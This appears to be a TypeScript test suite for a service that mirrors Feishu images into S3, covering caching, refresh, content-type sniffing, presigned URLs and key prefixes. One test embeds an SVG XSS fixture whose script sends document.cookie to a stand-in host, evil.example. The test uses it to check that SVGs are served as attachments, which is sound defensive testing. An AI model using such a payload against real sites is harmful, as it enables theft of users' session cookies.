import { createHash } from 'node:crypto';
import { PutObjectCommand } from '@aws-sdk/client-s3';
import { handler as helpdeskFaqImage } from '../../functions/helpdeskFaqImage';
import { handler as imImage } from '../../functions/imImage';
import { handler as whiteboardImage } from '../../functions/whiteboardImage';
import type { MirrorAnswer } from '../../lib/mirror/MirrorAnswer';
import { pngForId, sampleImages } from '../sandbox/feishu';
import { lambdaContext } from '../support/lambdaContext';
import { useMirrorEnvironment } from '../support/useMirrorEnvironment';

describe('Storage and cache', () => {
  const env = useMirrorEnvironment({ countS3Commands: true });

  const invoke = async (promise: Promise<unknown>): Promise<MirrorAnswer> => (await promise) as MirrorAnswer;

  it('answers an immutable image already stored with one HEAD and no Feishu call', async () => {
    // Prepare
    const first = await invoke(imImage({ imageKey: 'img_v3_cached_1' }, lambdaContext()));
    env.feishu.reset();
    env.s3Commands.length = 0;

    // Act
    const second = await invoke(imImage({ imageKey: 'img_v3_cached_1' }, lambdaContext()));

    // Assess
    expect(second).toMatchObject({
      cached: true,
      sha256: first.sha256,
      size: first.size,
      contentType: first.contentType,
      fetchedAt: first.fetchedAt,
      key: first.key,
    });
    expect(env.feishu.count()).toBe(0);
    expect(env.s3Commands).toEqual(['HeadObject']);
  });

  it('fetches again when asked to refresh', async () => {
    // Prepare
    await imImage({ imageKey: 'img_v3_refresh' }, lambdaContext());

    // Act
    const answer = await invoke(imImage({ imageKey: 'img_v3_refresh', refresh: true }, lambdaContext()));

    // Assess
    expect(answer.cached).toBe(false);
    expect(env.feishu.count('im')).toBe(2);
  });

  it('fetches a whiteboard every time when WHITEBOARD_MAX_AGE_SECONDS is 0, without a HEAD', async () => {
    // Act
    await whiteboardImage({ whiteboardId: 'wb_changes_1' }, lambdaContext());
    const second = await invoke(whiteboardImage({ whiteboardId: 'wb_changes_1' }, lambdaContext()));

    // Assess
    expect(second.cached).toBe(false);
    expect(env.feishu.count('whiteboard')).toBe(2);
    expect(env.s3Commands).not.toContain('HeadObject');
  });

  it('answers a whiteboard from S3 while it is younger than WHITEBOARD_MAX_AGE_SECONDS', async () => {
    // Prepare
    env.setEnv({ WHITEBOARD_MAX_AGE_SECONDS: '60' });
    await whiteboardImage({ whiteboardId: 'wb_young' }, lambdaContext());

    // Act
    const second = await invoke(whiteboardImage({ whiteboardId: 'wb_young' }, lambdaContext()));

    // Assess
    expect(second.cached).toBe(true);
    expect(env.feishu.count('whiteboard')).toBe(1);
    env.setEnv({ WHITEBOARD_MAX_AGE_SECONDS: undefined });
  });

  it('fetches a whiteboard again once the stored one is older than WHITEBOARD_MAX_AGE_SECONDS', async () => {
    // Prepare
    env.setEnv({ WHITEBOARD_MAX_AGE_SECONDS: '1' });
    const first = await invoke(whiteboardImage({ whiteboardId: 'wb_old' }, lambdaContext()));
    await new Promise((resolve) => setTimeout(resolve, 1100));

    // Act
    const second = await invoke(whiteboardImage({ whiteboardId: 'wb_old' }, lambdaContext()));

    // Assess
    expect(second.cached).toBe(false);
    expect(Date.parse(second.fetchedAt)).toBeGreaterThan(Date.parse(first.fetchedAt));
    env.setEnv({ WHITEBOARD_MAX_AGE_SECONDS: undefined });
  });

  it('stores the object under its deterministic key with its type, sha256, fetch time and Feishu log id', async () => {
    // Act
    const answer = await invoke(
      helpdeskFaqImage({ faqId: '6936004780707807251', imageKey: 'img_faq_jpeg_1' }, lambdaContext()),
    );

    // Assess
    const stored = await env.object('feishu/helpdesk-faq/6936004780707807251/img_faq_jpeg_1');
    const feishuCall = env.feishu.requests.find((r) => r.endpoint === 'helpdesk');
    expect(answer.key).toBe('feishu/helpdesk-faq/6936004780707807251/img_faq_jpeg_1');
    expect(stored.contentType).toBe('image/jpeg');
    expect(stored.bytes.equals(sampleImages.jpeg.bytes)).toBe(true);
    expect(stored.metadata).toEqual({
      sha256: createHash('sha256').update(sampleImages.jpeg.bytes).digest('hex'),
      'fetched-at': answer.fetchedAt,
      'feishu-log-id': feishuCall?.logId,
    });
  });

  it.each([
    ['noctype_png_1', 'no Content-Type'],
    ['octet_png_1', 'application/octet-stream'],
  ])('sniffs the real type from the bytes when Feishu sends %s (%s)', async (id) => {
    // Act
    const answer = await invoke(imImage({ imageKey: id }, lambdaContext()));

    // Assess
    expect(answer.contentType).toBe('image/png');
    expect((await env.object(answer.key)).contentType).toBe('image/png');
  });

  it.each([
    ['wb_gif_1', 'image/gif', 'gif'],
    ['wb_webp_1', 'image/webp', 'webp'],
  ])('serves %s with its type %s and extension .%s', async (id, contentType, extension) => {
    // Act
    const answer = await invoke(whiteboardImage({ whiteboardId: id }, lambdaContext()));
    const fetched = await fetch(answer.url);

    // Assess
    expect(answer.contentType).toBe(contentType);
    expect(fetched.headers.get('content-type')).toBe(contentType);
    expect(fetched.headers.get('content-disposition')).toBe(`inline; filename="${id}.${extension}"`);
  });

  it('serves an SVG, which can hold script, as an attachment, so that opening its URL runs none', async () => {
    // Prepare
    const svg =
      '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(document.domain)">' +
      '<script>fetch("https://evil.example/?c="+document.cookie)</script></svg>';
    env.feishu.fault({
      endpoint: 'whiteboard',
      kind: { type: 'raw', status: 200, headers: { 'Content-Type': 'image/svg+xml' }, body: svg },
    });

    // Act
    const answer = await invoke(whiteboardImage({ whiteboardId: 'wb_svg_script' }, lambdaContext()));
    const fetched = await fetch(answer.url);

    // Assess
    expect(answer.contentType).toBe('image/svg+xml');
    expect(fetched.headers.get('content-type')).toBe('image/svg+xml');
    expect(fetched.headers.get('content-disposition')).toBe('attachment; filename="wb_svg_script.svg"');
    expect(await fetched.text()).toBe(svg);
  });

  it('stores, finds and lists an image whose id is 256 characters long, the most an id may have', async () => {
    // Prepare
    const id = `img_v3_${'b'.repeat(249)}`;
    await imImage({ imageKey: id }, lambdaContext());

    // Act
    const again = await invoke(imImage({ imageKey: id }, lambdaContext()));

    // Assess
    expect(again).toMatchObject({ cached: true, key: `feishu/im/${id}` });
    expect(await env.keys()).toContain(`feishu/im/${id}`);
    expect((await fetch(again.url)).status).toBe(200);
  });

  it('presigns an attachment for the asked lifetime', async () => {
    // Prepare
    const before = Date.now();

    // Act
    const answer = await invoke(
      imImage({ imageKey: 'img_download', download: 'true', expiresIn: 120 }, lambdaContext()),
    );
    const fetched = await fetch(answer.url);

    // Assess
    expect(new URL(answer.url).searchParams.get('X-Amz-Expires')).toBe('120');
    expect(Date.parse(answer.expiresAt) - before).toBeGreaterThanOrEqual(119_000);
    expect(Date.parse(answer.expiresAt) - before).toBeLessThanOrEqual(121_000);
    expect(fetched.headers.get('content-disposition')).toBe('attachment; filename="img_download.png"');
    expect(Buffer.from(await fetched.arrayBuffer()).equals(pngForId('img_download'))).toBe(true);
  });

  it('puts every key under IMAGE_KEY_PREFIX', async () => {
    // Prepare
    env.setEnv({ IMAGE_KEY_PREFIX: 'tenant-a/images/' });

    // Act
    const answer = await invoke(imImage({ imageKey: 'img_prefixed' }, lambdaContext()));

    // Assess
    expect(answer.key).toBe('tenant-a/images/im/img_prefixed');
    expect(await env.exists('tenant-a/images/im/img_prefixed')).toBe(true);
    env.setEnv({ IMAGE_KEY_PREFIX: undefined });
  });

  it('fetches again, and stores as image/png, PNG bytes stored before under the type image/png.html', async () => {
    // Prepare: what an earlier version stored when Feishu declared image/png.html for PNG bytes.
    const bytes = pngForId('img_v3_typed_html');
    await env.client.send(
      new PutObjectCommand({
        Bucket: env.bucket,
        Key: 'feishu/im/img_v3_typed_html',
        Body: bytes,
        ContentType: 'image/png.html',
        Metadata: {
          sha256: createHash('sha256').update(bytes).digest('hex'),
          'fetched-at': '2026-11-21T08:15:42.123Z',
        },
      }),
    );

    // Act
    const answer = await invoke(imImage({ imageKey: 'img_v3_typed_html' }, lambdaContext()));
    const served = await fetch(answer.url);

    // Assess
    expect(answer).toMatchObject({ cached: false, contentType: 'image/png' });
    expect(env.feishu.count('im')).toBe(1);
    expect((await env.object('feishu/im/img_v3_typed_html')).contentType).toBe('image/png');
    expect(served.headers.get('content-type')).toBe('image/png');
    expect(served.headers.get('content-disposition')).toBe('inline; filename="img_v3_typed_html.png"');
  });

  it('treats an object without its recorded sha256 (an unfinished store) as not stored', async () => {
    // Prepare
    await env.client.send(
      new PutObjectCommand({
        Bucket: env.bucket,
        Key: 'feishu/im/img_half_done',
        Body: Buffer.from('partial'),
        ContentType: 'image/png',
      }),
    );

    // Act
    const answer = await invoke(imImage({ imageKey: 'img_half_done' }, lambdaContext()));

    // Assess
    expect(answer.cached).toBe(false);
    expect((await env.object('feishu/im/img_half_done')).bytes.equals(pngForId('img_half_done'))).toBe(true);
  });
});
